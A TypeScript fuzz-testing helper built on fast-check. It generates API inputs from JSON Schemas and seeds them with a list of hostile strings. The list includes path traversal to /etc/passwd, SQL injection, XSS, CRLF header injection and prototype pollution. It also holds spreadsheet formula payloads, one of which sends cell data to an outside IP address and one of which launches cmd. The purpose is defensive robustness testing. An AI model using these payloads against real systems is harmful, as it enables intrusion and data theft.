import fc from 'fast-check';

/** A JSON Schema as the OpenAPI document of the hub has it; keywords that are not read here widen what is generated. */
export type Schema = { readonly [keyword: string]: unknown };

/** What attackers write where a text is expected: each has once ended, filled or misled some program. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  "'; DROP TABLE journal; --",
  "' OR '1'='1",
  '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  'x\r\nSet-Cookie: a=b\r\n\r\n',
  '"; filename="x.exe',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '\u202egnp.exe',
  '\ud800',
  '😀'.repeat(30),
  'NaN',
  'Infinity',
  '1e999',
  'null',
  'a'.repeat(5000),
];

/** Of every type, and beyond every limit. Texts of JSON, since `__proto__` and 1e999 do not survive being values. */
export const hostileJson: readonly string[] = [
  ...['null', 'true', '[]', '{}', '0', '-0', '-1', '1e308', '-1e308', '5e-324', '1e999', '-1e999', '9007199254740993'],
  ...['{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '[[[[[[[[[[]]]]]]]]]]'],
  ...hostileTexts.map((text) => JSON.stringify(text)),
];

/** Values that mean something in the room of the test, by the name of the field. */
export type KnownValues = Readonly<Record<string, readonly unknown[]>>;

const instant = fc
  .date({ min: new Date('2026-01-01T00:00:00Z'), max: new Date('2026-12-31T00:00:00Z'), noInvalidDate: true })
  .map((date) => date.toISOString());

/** Values that a schema allows, as far as its keywords are read here; a third of the texts are hostile ones. */
export function sentValue(schema: Schema, known: KnownValues, name = ''): fc.Arbitrary<unknown> {
  const meant = known[name];
  if (meant !== undefined) return fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...meant) }, hostileText);
  if ('const' in schema) return fc.constant(schema['const']);
  if (Array.isArray(schema['enum'])) return fc.constantFrom(...(schema['enum'] as unknown[]));
  const choices = (schema['anyOf'] ?? schema['oneOf'] ?? schema['allOf']) as Schema[] | undefined;
  if (choices !== undefined) return fc.oneof(...choices.map((each) => sentValue(each, known, name)));
  switch (schema['type']) {
    case 'object':
      return objectOf(schema, known);
    case 'array': {
      const items = (schema['items'] ?? {}) as Schema;
      return fc.array(sentValue(items, known, name), { minLength: Number(schema['minItems'] ?? 0), maxLength: 4 });
    }
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'integer':
      return fc.integer(limitsOf(schema, -5, 50));
    case 'number':
      return numberOf(schema);
    case 'string':
      return textOf(schema);
    default:
      return fc.oneof(hostileText, fc.jsonValue({ maxDepth: 2 }));
  }
}

const hostileText = fc.constantFrom(...hostileTexts);

function objectOf(schema: Schema, known: KnownValues): fc.Arbitrary<unknown> {
  const properties = Object.entries((schema['properties'] ?? {}) as Record<string, Schema>);
  const required = new Set((schema['required'] ?? []) as string[]);
  const fields = properties.map(([name, each]) => [name, sentValue(each, known, name)] as const);
  return fc.record(Object.fromEntries(fields), {
    requiredKeys: fields.map(([name]) => name).filter((name) => required.has(name)),
  });
}

function limitsOf(schema: Schema, low: number, high: number): { min: number; max: number } {
  const min = Number(schema['minimum'] ?? schema['exclusiveMinimum'] ?? low);
  const max = Math.min(Number(schema['maximum'] ?? schema['exclusiveMaximum'] ?? high), 1e6);
  return { min: Math.max(min, -1e6), max: Math.max(max, Math.max(min, -1e6)) };
}

/** Mostly what a room may show, at times the ends of what a double can hold. */
function numberOf(schema: Schema): fc.Arbitrary<number> {
  const { min, max } = limitsOf(schema, 0, 100);
  return fc.oneof(
    { weight: 6, arbitrary: fc.double({ min, max, noNaN: true }) },
    fc.constantFrom(0, -0, 1, min, max, 8, 25, 35, 420),
    fc.constantFrom(1e308, -1e308, 5e-324, 1e-300, 2 ** 53, -1),
  );
}

function textOf(schema: Schema): fc.Arbitrary<unknown> {
  if (schema['format'] === 'date-time') return fc.oneof({ weight: 5, arbitrary: instant }, hostileText);
  if (schema['format'] === 'date')
    return fc.oneof(
      instant.map((text) => text.slice(0, 10)),
      hostileText,
    );
  const maxLength = Math.min(Number(schema['maxLength'] ?? 40), 40);
  return fc.oneof(
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: Math.min(1, maxLength), maxLength }) },
    fc.string({ unit: 'binary', maxLength }),
    hostileText,
  );
}

/** One part of a JSON document, wherever it is, put in place of by a hostile one. */
export function damagedJson(value: unknown, at: number, hostile: string): string {
  const marks: (string | number)[][] = [];
  const walk = (node: unknown, path: (string | number)[]): void => {
    marks.push(path);
    if (typeof node !== 'object' || node === null) return;
    for (const [key, each] of Object.entries(node)) walk(each, [...path, key]);
  };
  walk(value, []);
  const chosen = marks[at % marks.length] ?? [];
  const mark = 'hostile-part-of-the-document';
  const put = (node: unknown, path: readonly (string | number)[]): unknown => {
    const [step, ...rest] = path;
    if (step === undefined) return mark;
    if (Array.isArray(node)) return node.map((each, index) => (String(index) === step ? put(each, rest) : each));
    const entries = Object.entries(node as Record<string, unknown>);
    return Object.fromEntries(entries.map(([key, each]) => [key, key === step ? put(each, rest) : each]));
  };
  return JSON.stringify(put(value, chosen)).replace(`"${mark}"`, () => hostile);
}

export type Edit = { at: number; drop: number; put: string };

/** Lost, doubled and changed pieces of a text, as many as there are edits. */
export function editedText(text: string, edits: readonly Edit[]): string {
  return edits.reduce((now, { at, drop, put }) => {
    const start = at % (now.length + 1);
    return now.slice(0, start) + put + now.slice(start + drop);
  }, text);
}

export const edits: fc.Arbitrary<Edit[]> = fc.array(
  fc.record({
    at: fc.nat(100_000),
    drop: fc.nat(8),
    put: fc.oneof(
      fc.string({ unit: 'binary', maxLength: 4 }),
      fc.constantFrom('"', '{', '}', '[', ']', ',', ':', '\\', '\0', '1e999', 'null', '-', '"__proto__":'),
    ),
  }),
  { minLength: 1, maxLength: 5 },
);
